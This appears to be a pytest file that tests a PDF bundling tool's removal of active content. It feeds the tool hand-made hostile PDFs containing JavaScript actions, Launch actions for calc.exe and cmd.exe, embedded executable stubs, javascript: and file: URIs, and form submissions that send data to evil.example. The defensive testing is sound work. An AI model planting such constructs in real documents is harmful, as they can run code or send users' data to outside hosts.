# ruff: noqa: E501  (raw PDF objects read best on one line each)
"""Hand-made hostile and tricky PDFs (see tests/rawpdf.py), each built into a bundle and read back:
active content hidden in odd places, form fields that could merge, annotations shared between
kept and dropped pages, both destination namespaces, an outline with a cycle, inherited page
attributes."""

from __future__ import annotations

import contextlib
import re
from pathlib import Path

import pytest
from pypdf import PdfReader

from tests import linkcheck as lc
from tests import rawpdf
from tests.helpers import assert_verified, run


def js(tag: str) -> str:
    return f"<< /S /JavaScript /JS (app.alert\\('{tag}'\\)) >>"


def build(
    tmp_path: Path, capsys: pytest.CaptureFixture[str], papers: list[tuple[str, Path, str]]
) -> Path:
    lines = ['[bundle]\nname = "adv"\nversion = "v1"\n']
    for key, path, extra in papers:
        lines.append(f'[[papers]]\nkey = "{key}"\ntitle = "{key}"\npath = "{path}"\n{extra}\n')
    m = tmp_path / "adv.toml"
    m.write_text("".join(lines))
    out = tmp_path / "out"
    code, _, err = run(["build", str(m), "-o", str(out), "--quiet"], capsys)
    assert code == 0, err
    return out / "adv-v1.pdf"


def all_bytes_decoded(pdf: Path) -> bytes:
    """Every object of the file, streams decoded, as one blob to grep."""
    r = PdfReader(pdf)
    blob = bytearray(pdf.read_bytes())
    idnums = set(r.xref.get(0, {})) | set(r.xref_objStm)
    assert idnums
    for idnum in sorted(idnums):
        obj = r.get_object(idnum)
        if hasattr(obj, "get_data"):
            with contextlib.suppress(Exception):
                blob += obj.get_data()
    return bytes(blob)


HIDDEN = {
    1: "<< /Type /Catalog /Pages 2 0 R /AcroForm << /Fields [21 0 R] >> "
    f"/OpenAction {js('OPEN_ACTION')} "
    f"/Names << /JavaScript << /Names [(x) {js('NAMES_JS')}] >> "
    "/EmbeddedFiles << /Names [(a.exe) << /Type /Filespec /F (a.exe) /EF << /F 19 0 R >> >>] >> >> >>",
    2: rawpdf.pages_node("3 0 R 4 0 R", 2),
    3: "<< /Type /Page /Parent 2 0 R /Contents 5 0 R /Annots [10 0 R 12 0 R 14 0 R 16 0 R] "
    "/PieceInfo << /App << /LastModified (D:2020) /Private 1 0 R >> >> >>",
    4: "<< /Type /Page /Parent 2 0 R /Contents 6 0 R >>",
    5: rawpdf.content("hidden page 1"),
    6: rawpdf.content("hidden page 2"),
    7: rawpdf.FONT,
    10: "<< /Type /Annot /Subtype /Text /Rect [100 100 120 120] /Contents (note) /Popup 11 0 R >>",
    11: f"<< /Type /Annot /Subtype /Popup /Rect [130 100 300 200] /Parent 10 0 R /A {js('POPUP_A')} "
    f"/AA << /E {js('POPUP_AA')} >> >>",
    12: "<< /Type /Annot /Subtype /Widget /Rect [100 300 300 330] /Parent 13 0 R >>",
    13: f"<< /FT /Tx /T (orphan) /Kids [12 0 R] /AA << /K {js('PARENT_AA')} >> >>",
    14: "<< /Type /Annot /Subtype /Square /Rect [100 400 200 450] /IRT 15 0 R >>",
    15: "<< /Type /Annot /Subtype /Link /Rect [0 0 1 1] /A << /S /Launch /F (calc.exe) "
    "/Win << /F (cmd.exe) /P (IRT_LAUNCH) >> >> >>",
    16: "<< /Type /Annot /Subtype /Square /Rect [100 500 200 550] /FS 17 0 R >>",
    17: "<< /Type /Filespec /F (payload.exe) /EF << /F 18 0 R >> >>",
    18: ("/Type /EmbeddedFile", b"EMBEDDED_PAYLOAD_BYTES"),
    19: ("/Type /EmbeddedFile", b"EMBEDDED_TWO"),
    21: f"<< /FT /Btn /T (ghost) /Type /Annot /Subtype /Widget /Rect [0 0 10 10] /A {js('FIELD_A')} >>",
}


def test_active_content_hidden_in_odd_places_is_removed(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    src = rawpdf.write(tmp_path / "hidden.pdf", HIDDEN)
    pdf = build(tmp_path, capsys, [("hidden", src, "")])
    blob = all_bytes_decoded(pdf)
    for marker in (
        b"OPEN_ACTION",
        b"NAMES_JS",
        b"POPUP_A",
        b"PARENT_AA",
        b"IRT_LAUNCH",
        b"FIELD_A",
        b"EMBEDDED_PAYLOAD",
        b"EMBEDDED_TWO",
        b"calc.exe",
        b"cmd.exe",
    ):
        assert marker not in blob, marker
    for name in (b"/JavaScript", b"/Launch", b"/EmbeddedFile", b"/OpenAction", b"/AA"):
        assert not re.search(re.escape(name) + rb"[\s/<>\[\]()]", blob), name
    r = PdfReader(pdf)
    # the harmless parts stay: the note and its popup, the form fields
    first = len(r.pages) - 2
    annots = [a.get_object() for a in r.pages[first]["/Annots"]]
    kinds = [a["/Subtype"] for a in annots]
    assert "/Text" in kinds and "/Widget" in kinds and "/Square" in kinds
    note = next(a for a in annots if a["/Subtype"] == "/Text")
    popup = note["/Popup"].get_object()
    assert popup["/Subtype"] == "/Popup" and "/A" not in popup and "/AA" not in popup


FORM_A = {
    1: "<< /Type /Catalog /Pages 2 0 R /AcroForm << /Fields [10 0 R] /DR << /Font << /F1 7 0 R >> >> >> >>",
    2: rawpdf.pages_node("3 0 R", 1),
    3: "<< /Type /Page /Parent 2 0 R /Contents 4 0 R /Annots [11 0 R] >>",
    4: rawpdf.content("form A"),
    7: rawpdf.FONT,
    10: "<< /T (y) /Kids [11 0 R] >>",
    11: "<< /Type /Annot /Subtype /Widget /FT /Tx /T (name) /V (from A) /Parent 10 0 R "
    "/Rect [72 600 300 630] /P 3 0 R >>",
}
FORM_B = {
    1: "<< /Type /Catalog /Pages 2 0 R /AcroForm << /Fields [11 0 R] >> >>",
    2: rawpdf.pages_node("3 0 R", 1),
    3: "<< /Type /Page /Parent 2 0 R /Contents 4 0 R /Annots [11 0 R] >>",
    4: rawpdf.content("form B"),
    7: rawpdf.FONT,
    11: "<< /Type /Annot /Subtype /Widget /FT /Tx /T (name) /V (from B) /Rect [72 600 300 630] "
    "/P 3 0 R >>",
}


def test_form_fields_of_two_papers_never_merge(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    a = rawpdf.write(tmp_path / "a.pdf", FORM_A)
    b = rawpdf.write(tmp_path / "b.pdf", FORM_B)
    # keys chosen so that a naive "<key>.<name>" would give two fields "x.y.name"
    pdf = build(tmp_path, capsys, [("x", a, ""), ("x.y", b, "")])
    fields = PdfReader(pdf).get_fields() or {}
    terminal = {k: v.get("/V") for k, v in fields.items() if v.get("/V") is not None}
    assert sorted(terminal.values()) == ["from A", "from B"]
    assert len(terminal) == 2
    for name in fields:
        assert name.split(".")[0] in ("x", "x_y"), name


FORM_C = {
    1: "<< /Type /Catalog /Pages 2 0 R /AcroForm << /Fields [10 0 R 20 0 R] >> >>",
    2: rawpdf.pages_node("3 0 R 5 0 R", 2),
    3: "<< /Type /Page /Parent 2 0 R /Contents 4 0 R /Annots [11 0 R 30 0 R 31 0 R] >>",
    5: "<< /Type /Page /Parent 2 0 R /Contents 6 0 R /Annots [12 0 R 20 0 R 30 0 R 31 0 R] >>",
    4: rawpdf.content("C page 1"),
    6: rawpdf.content("C page 2"),
    7: rawpdf.FONT,
    10: "<< /FT /Tx /T (f) /V (val) /Kids [11 0 R 12 0 R] >>",
    11: "<< /Type /Annot /Subtype /Widget /Parent 10 0 R /Rect [72 600 300 630] /P 3 0 R >>",
    12: "<< /Type /Annot /Subtype /Widget /Parent 10 0 R /Rect [72 600 300 630] /P 5 0 R >>",
    20: "<< /Type /Annot /Subtype /Widget /FT /Tx /T (only2) /Rect [72 500 300 530] /P 5 0 R >>",
    30: "<< /Type /Annot /Subtype /Text /Rect [72 400 92 420] /Contents (hello) /Popup 31 0 R >>",
    31: "<< /Type /Annot /Subtype /Popup /Rect [100 400 300 500] /Parent 30 0 R >>",
}


def test_dropped_pages_leave_no_null_fields_and_shared_annotations_survive(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    src = rawpdf.write(tmp_path / "c.pdf", FORM_C)
    pdf = build(tmp_path, capsys, [("c", src, 'pages = "1"')])
    r = PdfReader(pdf)
    fields = r.get_fields()  # pypdf itself chokes on null kids
    assert fields is not None
    assert "c.f" in fields and not any("only2" in k for k in fields)
    page = r.pages[len(r.pages) - 1]
    annots = [a.get_object() for a in page["/Annots"]]
    note = next(a for a in annots if a["/Subtype"] == "/Text")
    popup = note["/Popup"].get_object()
    assert popup["/Subtype"] == "/Popup"
    assert popup["/Parent"].get_object()["/Contents"] == "hello"


LINKS = {
    1: "<< /Type /Catalog /Pages 2 0 R /Dests 40 0 R /Names << /Dests 50 0 R >> /Outlines 60 0 R >>",
    2: rawpdf.pages_node("3 0 R 4 0 R 5 0 R 6 0 R", 4, "/CropBox [50 50 562 742] /Rotate 90"),
    3: "<< /Type /Page /Parent 2 0 R /Contents 13 0 R "
    "/Annots [20 0 R 21 0 R 22 0 R 23 0 R 24 0 R 25 0 R 26 0 R] >>",
    4: "<< /Type /Page /Parent 2 0 R /Contents 14 0 R /Annots [26 0 R] >>",
    5: "<< /Type /Page /Parent 2 0 R /Contents 15 0 R >>",
    6: "<< /Type /Page /Parent 2 0 R /Contents 16 0 R /Rotate 180 >>",
    7: rawpdf.FONT,
    13: rawpdf.content("P1"),
    14: rawpdf.content("P2"),
    15: rawpdf.content("P3"),
    16: rawpdf.content("P4"),
    # /Dests dictionary (names): clash -> P2, d1 -> dict /D -> P3, d2 -> indirect array -> P4
    40: "<< /clash [4 0 R /Fit] /d1 << /D [5 0 R /Fit] >> /d2 41 0 R >>",
    41: "[6 0 R /XYZ 0 700 0]",
    # /Names tree (strings) with Kids/Limits: clash -> P4, n1 -> indirect -> P2, n2 -> /D -> P4
    50: "<< /Kids [51 0 R 52 0 R] >>",
    51: "<< /Limits [(clash) (clash)] /Names [(clash) [6 0 R /Fit]] >>",
    52: "<< /Limits [(n1) (n2)] /Names [(n1) 53 0 R (n2) << /D [6 0 R /Fit] >>] >>",
    53: "[4 0 R /Fit]",
    20: "<< /Type /Annot /Subtype /Link /Rect [10 10 20 20] /Dest (clash) >>",
    21: "<< /Type /Annot /Subtype /Link /Rect [30 10 40 20] /Dest /clash >>",
    22: "<< /Type /Annot /Subtype /Link /Rect [50 10 60 20] /A << /S /GoTo /D /d1 "
    "/Next << /S /JavaScript /JS (NEXT_JS) >> >> >>",
    23: "<< /Type /Annot /Subtype /Link /Rect [70 10 80 20] /A << /S /GoTo /D 41 0 R >> >>",
    24: "<< /Type /Annot /Subtype /Link /Rect [90 10 100 20] /Dest (n2) >>",
    25: "<< /Type /Annot /Subtype /Link /Rect [110 10 120 20] /Dest /d2 >>",
    26: "<< /Type /Annot /Subtype /Link /Rect [130 10 140 20] /Dest (n1) >>",
    60: "<< /Type /Outlines /First 61 0 R /Last 62 0 R /Count 2 >>",
    61: "<< /Title (A to P4) /Parent 60 0 R /Next 62 0 R /A << /S /GoTo /D (n2) >> >>",
    62: "<< /Title (B to P2) /Parent 60 0 R /Next 61 0 R /Prev 61 0 R /Dest /clash >>",
}


@pytest.mark.parametrize("pages", ["", 'pages = "1,2,4"'])
def test_every_destination_form_resolves_in_its_own_namespace(
    tmp_path: Path, capsys: pytest.CaptureFixture[str], pages: str
) -> None:
    src = rawpdf.write(tmp_path / "links.pdf", LINKS)
    pdf = build(tmp_path, capsys, [("links", src, pages)])
    r = PdfReader(pdf)
    kept = [0, 1, 2, 3] if not pages else [0, 1, 3]
    first = len(r.pages) - len(kept)
    at = {orig: first + n for n, orig in enumerate(kept)}
    got = {rect[0]: t for rect, t in lc.internal_links(r)[first]}
    want = {10.0: 3, 30.0: 1, 50.0: 2, 70.0: 3, 90.0: 3, 110.0: 3, 130.0: 1}
    assert got == {x: at[p] for x, p in want.items() if p in at}
    assert b"NEXT_JS" not in pdf.read_bytes()
    outline = [(t, p) for _, t, p in lc.flatten(lc.outline_tree(r)) if p is not None and p >= first]
    assert outline == [("links", first), ("A to P4", at[3]), ("B to P2", at[1])]
    # inherited /Rotate and /CropBox survive, a page's own /Rotate wins
    assert [r.pages[at[i]].rotation for i in kept] == [90 if i < 3 else 180 for i in kept]
    assert [float(x) for x in r.pages[first].cropbox] == [50, 50, 562, 742]


def _deep_aa() -> str:
    deep = f"<< /AA << /O {js('DEEP_AA')} >> >>"
    for _ in range(70):
        deep = f"<< /K {deep} >>"
    return deep


SNEAKY = {
    1: "<< /Type /Catalog /Pages 2 0 R /AcroForm << /Fields [21 0 R 22 0 R 12 0 R] >> >>",
    2: rawpdf.pages_node("3 0 R", 1),
    3: "<< /Type /Page /Parent 2 0 R /Contents 5 0 R /Annots [10 0 R 11 0 R 12 0 R 14 0 R 16 0 R 17 0 R] >>",
    5: rawpdf.content("sneaky page"),
    7: rawpdf.FONT,
    10: "<< /Type /Annot /Subtype /Link /Rect [72 600 200 620] /A << /S /URI /URI (javascript:app.alert\\('JSURI'\\)) >> >>",
    11: "<< /Type /Annot /Subtype /Link /Rect [72 560 200 580] /A << /S /URI /URI (file:///etc/FILEURI) >> >>",
    12: "<< /Type /Annot /Subtype /Widget /FT /Btn /T (onpage) /Rect [72 500 200 520] /P 3 0 R "
    "/A << /Type /Foo /S /JavaScript /JS (app.alert\\('ONPAGE_TYPED'\\)) >> >>",
    14: "<< /Type /Annot /Subtype /Square /Rect [100 400 200 450] /FS 15 0 R /Zz "
    + _deep_aa()
    + f" /Zz2 [ {js('ARRAY_JS')} ] /Zz3 << /S /Launch /F (ZZ3_LAUNCH.exe) >> >>",
    15: "<< /Type /Filespec /F (payload.exe) /RF << /F [(payload.exe) 18 0 R] >> >>",
    16: "<< /Type /Annot /Subtype /Text /Rect [300 400 320 420] /Contents (note) /Popup 19 0 R >>",
    17: "<< /Type /Annot /Subtype /Widget /FT /Tx /T (shown) /Rect [72 300 200 320] /P 3 0 R "
    "/A << /S /URI /URI (http://example.com/ok) /Parent 1 0 R /Next << /S /Launch /F (NEXT_LAUNCH.exe) >> >> >>",
    18: ("/Type /EmbeddedFile", b"RF_PAYLOAD_BYTES"),
    19: "<< /Type /Annot /Subtype /Popup /Rect [300 300 400 400] /Parent 16 0 R "
    "/A << /Type /Foo /S /JavaScript /JS (app.alert\\('POPUP_TYPED'\\)) >> >>",
    21: "<< /Type /Annot /Subtype /Widget /FT /Btn /T (ghost) /Rect [0 0 10 10] /P 3 0 R "
    "/A << /Type /Foo /S /JavaScript /JS (app.alert\\('GHOST_TYPED'\\)) >> >>",
    22: "<< /Type /Annot /Subtype /Widget /FT /Btn /T (ghost2) /Rect [0 0 10 10] /P 3 0 R "
    "/A << /S /URI /URI (http://x) /Parent 1 0 R /Next << /S /Launch /F (GHOST_NEXT_LAUNCH.exe) >> >> >>",
}


def test_sneakier_active_content_is_removed_and_verify_agrees(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    """Typed actions, actions under odd keys and in arrays, chains behind a safe action, a /Parent
    back to the source catalog, javascript:/file: URIs, related files, nesting 70 levels deep."""
    src = rawpdf.write(tmp_path / "sneaky.pdf", SNEAKY)
    pdf = build(tmp_path, capsys, [("sneaky", src, "")])
    blob = all_bytes_decoded(pdf)
    for marker in (
        b"JSURI",
        b"FILEURI",
        b"ONPAGE_TYPED",
        b"POPUP_TYPED",
        b"GHOST_TYPED",
        b"ARRAY_JS",
        b"ZZ3_LAUNCH",
        b"DEEP_AA",
        b"RF_PAYLOAD",
        b"NEXT_LAUNCH",
    ):
        assert marker not in blob, marker
    assert blob.count(b"/Catalog") == 1  # the source catalog was not dragged in
    r = PdfReader(pdf)
    uris = {u for page in lc.uri_links(r) for u in page}
    assert "http://example.com/ok" in uris  # the harmless part of the widget stays
    assert all(u.startswith(("http:", "https:")) for u in uris), uris
    code, out, err = run(["verify", str(pdf.with_suffix(".zip"))], capsys)
    assert code == 0, err
    assert "no active content" in out


OCG = {
    1: "<< /Type /Catalog /Pages 2 0 R /OCProperties << /OCGs [8 0 R 9 0 R] "
    "/D << /OFF [8 0 R] /Order [8 0 R 9 0 R] >> >> >>",
    2: rawpdf.pages_node("3 0 R", 1),
    3: "<< /Type /Page /Parent 2 0 R /Contents 5 0 R /Resources << /Font << /F1 7 0 R >> "
    "/Properties << /oc1 8 0 R /oc2 9 0 R >> >> >>",
    5: (
        "",
        b"BT /F1 24 Tf 72 700 Td (VISIBLE) Tj ET /OC /oc1 BDC BT /F1 24 Tf 72 600 Td "
        b"(HIDDENLAYER) Tj ET EMC /OC /oc2 BDC BT /F1 24 Tf 72 500 Td (SHOWNLAYER) Tj ET EMC",
    ),
    7: rawpdf.FONT,
    8: "<< /Type /OCG /Name (Answers) >>",
    9: "<< /Type /OCG /Name (Notes) >>",
}


def test_hidden_layers_stay_hidden(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    src = rawpdf.write(tmp_path / "ocg.pdf", OCG)
    pdf = build(tmp_path, capsys, [("layers", src, "")])
    r = PdfReader(pdf)
    ocp = r.trailer["/Root"]["/OCProperties"]
    names = {str(g.get_object()["/Name"]): g.idnum for g in ocp["/OCGs"]}
    assert set(names) == {"Answers", "Notes"}
    assert [g.idnum for g in ocp["/D"]["/OFF"]] == [names["Answers"]]
    page = r.pages[len(r.pages) - 1]
    props = page["/Resources"]["/Properties"]
    assert props.raw_get("/oc1").idnum == names["Answers"]
    assert ocp["/D"]["/Order"][0][0] == "layers"  # grouped under the paper's title


def test_a_paper_that_opens_but_cannot_be_merged(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    """Found only while merging (an annotation nested 3000 levels deep): exit 1 naming it, or
    with --keep-going a bundle of the rest and exit 3."""
    deep = "[" * 3000 + "]" * 3000
    bad = rawpdf.write(
        tmp_path / "deep.pdf",
        {
            1: "<< /Type /Catalog /Pages 2 0 R >>",
            2: rawpdf.pages_node("3 0 R", 1),
            3: "<< /Type /Page /Parent 2 0 R /Contents 5 0 R /Annots [8 0 R] >>",
            5: rawpdf.content("deep"),
            7: rawpdf.FONT,
            8: f"<< /Type /Annot /Subtype /Square /Rect [0 0 10 10] /Foo {deep} >>",
        },
    )
    good = rawpdf.write(tmp_path / "good.pdf", LINKS)
    m = tmp_path / "kg.toml"
    m.write_text(
        '[bundle]\nname = "kg"\nversion = "v1"\n'
        f'[[papers]]\nkey = "good"\ntitle = "Good"\npath = "{good}"\n'
        f'[[papers]]\nkey = "bad"\ntitle = "Bad"\npath = "{bad}"\n'
    )
    code, _, err = run(["build", str(m), "-o", str(tmp_path / "o1"), "--quiet"], capsys)
    assert code == 1 and f"bad ({bad}): unreadable" in err and "Traceback" not in err
    code, _, err = run(
        ["build", str(m), "-o", str(tmp_path / "o2"), "--quiet", "--keep-going"], capsys
    )
    assert code == 3, err
    r = PdfReader(tmp_path / "o2" / "kg-v1.pdf")
    assert len(r.pages) == 2 + 4  # front matter and the good paper only
    assert "`bad`" in (tmp_path / "o2" / "kg-v1-notes.md").read_text()


def _flate_page(stream: tuple[str, bytes], xobject: str = "") -> dict[int, str | tuple[str, bytes]]:
    return {
        1: "<< /Type /Catalog /Pages 2 0 R >>",
        2: rawpdf.pages_node("3 0 R", 1),
        3: "<< /Type /Page /Parent 2 0 R /Contents 5 0 R "
        f"/Resources << /Font << /F1 7 0 R >> {xobject} >> >>",
        5: stream,
        7: rawpdf.FONT,
    }


def test_verify_accepts_streams_viewers_accept(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    """Odd but readable inputs: a Flate stream with a wrong Adler-32, raw deflate without the zlib
    header, the /Fl abbreviation, and a JBIG2 image this machine may have no decoder for."""
    import zlib

    text = b"BT /F1 24 Tf 72 700 Td (odd stream) Tj ET"
    good = zlib.compress(text)
    bad_adler = good[:-4] + b"\0\0\0\0"
    raw = zlib.compress(text)[2:-4]
    inputs = {
        "adler": _flate_page(("/Filter /FlateDecode", bad_adler)),
        "raw": _flate_page(("/Filter /FlateDecode", raw)),
        "abbrev": _flate_page(("/Filter /Fl", good)),
        "jbig2": {
            **_flate_page(rawpdf.content("with an image"), "/XObject << /Im1 9 0 R >>"),
            9: (
                "/Type /XObject /Subtype /Image /Width 8 /Height 8 /BitsPerComponent 1 "
                "/ColorSpace /DeviceGray /Filter /JBIG2Decode",
                b"\x00\x01not-really-jbig2",
            ),
        },
    }
    papers = [(k, rawpdf.write(tmp_path / f"{k}.pdf", v), "") for k, v in inputs.items()]
    pdf = build(tmp_path, capsys, papers)
    code, out, err = run(["verify", str(pdf.with_suffix(".zip"))], capsys)
    assert code == 0, err
    assert_verified(out, pdf, 4)


def test_form_resources_do_not_leak_into_another_papers_page_fonts(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    """A form's default resources are often its page's own font dictionary: merging the /DR of
    two papers must not add fonts to either paper's pages."""
    shared = {
        1: "<< /Type /Catalog /Pages 2 0 R /AcroForm << /Fields [11 0 R] /DR << /Font 8 0 R >> >> >>",
        2: rawpdf.pages_node("3 0 R", 1).replace("/Resources << /Font << /F1 7 0 R >> >>", ""),
        3: "<< /Type /Page /Parent 2 0 R /Contents 4 0 R /Annots [11 0 R] "
        "/Resources << /Font 8 0 R >> >>",
        4: rawpdf.content("form"),
        7: rawpdf.FONT,
        8: "<< /F1 7 0 R >>",
        11: "<< /Type /Annot /Subtype /Widget /FT /Tx /T (name) /Rect [72 600 300 630] /P 3 0 R >>",
    }
    other = dict(shared)
    other[8] = "<< /F1 7 0 R /ZaDb 9 0 R >>"
    other[9] = "<< /Type /Font /Subtype /Type1 /BaseFont /ZapfDingbats >>"
    a = rawpdf.write(tmp_path / "a.pdf", shared)
    b = rawpdf.write(tmp_path / "b.pdf", other)
    pdf = build(tmp_path, capsys, [("a", a, ""), ("b", b, "")])
    r = PdfReader(pdf)
    first_a = len(r.pages) - 2
    assert sorted(r.pages[first_a]["/Resources"]["/Font"].keys()) == ["/F1"]
    assert sorted(r.pages[first_a + 1]["/Resources"]["/Font"].keys()) == ["/F1", "/ZaDb"]
    dr = r.trailer["/Root"]["/AcroForm"]["/DR"]["/Font"]
    assert sorted(dr.keys()) == ["/F1", "/ZaDb"]


def test_pypdf_repair_messages_only_with_verbose(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    src = rawpdf.write(tmp_path / "a.pdf", LINKS)
    data = src.read_bytes()
    # a wrong startxref pointer: pypdf repairs it and says so through logging
    head, _, tail = data.rpartition(b"startxref\n")
    src.write_bytes(head + b"startxref\n" + b"12" + tail[tail.index(b"\n") :])
    m = tmp_path / "m.toml"
    m.write_text(
        f'[bundle]\nname = "a"\nversion = "v1"\n[[papers]]\nkey = "a"\ntitle = "A"\npath = "{src}"\n'
    )
    code, _, err = run(["build", str(m), "-o", str(tmp_path / "o1"), "--quiet"], capsys)
    assert code == 0, err
    assert "xref" not in err.lower()
    code, _, err = run(["build", str(m), "-o", str(tmp_path / "o2"), "-v"], capsys)
    assert code == 0, err
    assert "pypdf: " in err


OPEN_ACTION_ELSEWHERE = {
    1: "<< /Type /Catalog /Pages 2 0 R >>",
    2: rawpdf.pages_node("3 0 R", 1),
    3: "<< /Type /Page /Parent 2 0 R /Contents 5 0 R /Annots [10 0 R] "
    "/OpenAction << /S /URI /URI (https://tracker.example/PAGE_OPEN) >> >>",
    5: rawpdf.content("open actions outside the catalog"),
    7: rawpdf.FONT,
    10: "<< /Type /Annot /Subtype /Link /Rect [72 72 200 90] "
    "/A << /S /URI /URI (https://example.org/kept) >> "
    "/OpenAction << /S /GoTo /D [3 0 R /Fit] /Next << /S /URI /URI (https://tracker.example/"
    "ANNOT_OPEN) >> >> >>",
}


def test_open_actions_outside_the_catalog_are_removed(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    """The catalog is rebuilt anyway, so an /OpenAction there proves little: this one hides in a
    page and in an annotation, and runs only harmless-looking GoTo and URI actions."""
    src = rawpdf.write(tmp_path / "open.pdf", OPEN_ACTION_ELSEWHERE)
    pdf = build(tmp_path, capsys, [("open", src, "")])
    blob = all_bytes_decoded(pdf)
    assert b"PAGE_OPEN" not in blob and b"ANNOT_OPEN" not in blob
    assert not re.search(rb"/OpenAction[\s/<>\[\]()]", blob)
    r = PdfReader(pdf)
    annots = [a.get_object() for a in r.pages[-1]["/Annots"]]
    kept = [a["/A"]["/URI"] for a in annots if "/A" in a and a["/A"].get("/S") == "/URI"]
    assert kept == ["https://example.org/kept"]  # the link itself still works


FORM_ACTIONS = {
    1: "<< /Type /Catalog /Pages 2 0 R /AcroForm << /Fields [10 0 R 11 0 R 12 0 R] >> >>",
    2: rawpdf.pages_node("3 0 R", 1),
    3: "<< /Type /Page /Parent 2 0 R /Contents 4 0 R /Annots [10 0 R 11 0 R 12 0 R 13 0 R] >>",
    4: rawpdf.content("a form that phones home"),
    7: rawpdf.FONT,
    # a button that posts the form, one that imports data, one that resets; a link whose safe
    # URI action chains a submit behind it
    10: "<< /Type /Annot /Subtype /Widget /FT /Btn /Ff 65536 /T (send) /Rect [72 600 200 630] "
    "/P 3 0 R /A << /S /SubmitForm /F << /FS /URL /F (https://evil.example/SUBMIT_URL) >> "
    "/Flags 4 >> >>",
    11: "<< /Type /Annot /Subtype /Widget /FT /Btn /Ff 65536 /T (load) /Rect [72 550 200 580] "
    "/P 3 0 R /AA << /U << /S /ImportData /F (IMPORT_FDF.fdf) >> >> >>",
    12: "<< /Type /Annot /Subtype /Widget /FT /Tx /T (name) /V (kept) /Rect [72 500 300 530] "
    "/P 3 0 R /AA << /Bl << /S /ResetForm /Fields [(name)] >> >> >>",
    13: "<< /Type /Annot /Subtype /Link /Rect [72 450 200 470] /A << /S /URI "
    "/URI (https://example.org/fine) /Next << /S /SubmitForm /F (https://evil.example/NEXT_SUBMIT) >> >> >>",
}


def test_form_submit_import_and_reset_actions_are_removed(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    """The README's "Safe" promise for forms: SubmitForm and ImportData (and ResetForm) go,
    wherever they hang (/A, /AA, a /Next chain behind a kept URI); the fields themselves stay."""
    src = rawpdf.write(tmp_path / "form.pdf", FORM_ACTIONS)
    pdf = build(tmp_path, capsys, [("form", src, "")])
    blob = all_bytes_decoded(pdf)
    for marker in (b"SUBMIT_URL", b"IMPORT_FDF", b"NEXT_SUBMIT", b"evil.example"):
        assert marker not in blob, marker
    for name in (b"/SubmitForm", b"/ImportData", b"/ResetForm"):
        assert not re.search(re.escape(name) + rb"[\s/<>\[\]()]", blob), name
    r = PdfReader(pdf)
    annots = [a.get_object() for a in r.pages[len(r.pages) - 1]["/Annots"]]
    fields = {str(a["/T"]) for a in annots if "/T" in a}
    assert fields == {"send", "load", "name"}, fields  # the fields stay, without their actions
    assert "https://example.org/fine" in {u for page in lc.uri_links(r) for u in page}
    code, out, err = run(["verify", str(pdf.with_suffix(".zip"))], capsys)
    assert code == 0 and "no active content" in out, (out, err)
